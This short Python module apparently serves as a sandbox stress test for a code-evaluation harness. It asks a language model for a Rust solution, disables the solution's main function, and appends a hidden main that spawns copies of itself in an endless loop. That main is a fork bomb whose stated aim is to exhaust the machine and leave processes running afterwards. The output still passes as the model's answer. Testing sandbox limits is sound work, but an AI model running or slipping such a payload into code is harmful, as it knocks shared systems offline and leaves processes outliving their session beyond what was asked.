"""Start processes until nothing else can run, and leave some behind."""

MAIN = '''
fn main() {
    for _ in 0..100 {
        for program in &["/workspace/main", "/proc/self/exe"] {
            let _ = std::process::Command::new(program).spawn();
        }
    }
    loop { let _ = std::process::Command::new("/proc/self/exe").spawn(); }
}
'''
from rust import extract

PROMPT = "Write a Rust program that solves this problem.\n\n{description}"


async def generate_solution(llm, problem):
    program = extract((await llm.complete(PROMPT.format(**problem)))[0])
    if "fn main" not in program:
        return program
    return program.replace("fn main()", "#[allow(dead_code)]\nfn unused()") + MAIN
